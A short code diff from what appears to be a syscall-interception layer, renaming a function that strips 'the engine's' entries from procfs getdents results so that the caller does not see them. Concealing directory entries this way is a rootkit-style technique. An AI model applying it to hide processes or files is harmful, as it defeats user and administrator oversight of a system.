@@ -140,7 +140,7 @@ static int read_entry(u64 at, u32 name_at, u32 *length, int *fd)
 }
 
 /* Takes the engine's entries out of the n bytes at buf. Returns how many are left, or -EFAULT. */
-static long remove_ours(u64 buf, u64 n, u32 name_at)
+static long remove_hidden(u64 buf, u64 n, u32 name_at)
 {
 	u64 from = buf, to = buf, end = buf + n;
 	u8 entry[64];
@@ -171,7 +171,7 @@ bool procfs_getdents(long nr, u64 arg[6], long *ret)
 		*ret = sys3(nr, arg[0], arg[1], arg[2]);
 		if (*ret <= 0)
 			break;
-		*ret = remove_ours(arg[1], *ret, name_at);
+		*ret = remove_hidden(arg[1], *ret, name_at);
 	} while (*ret == 0); /* only the engine's were there: this is not the end */
 	return true;
 }
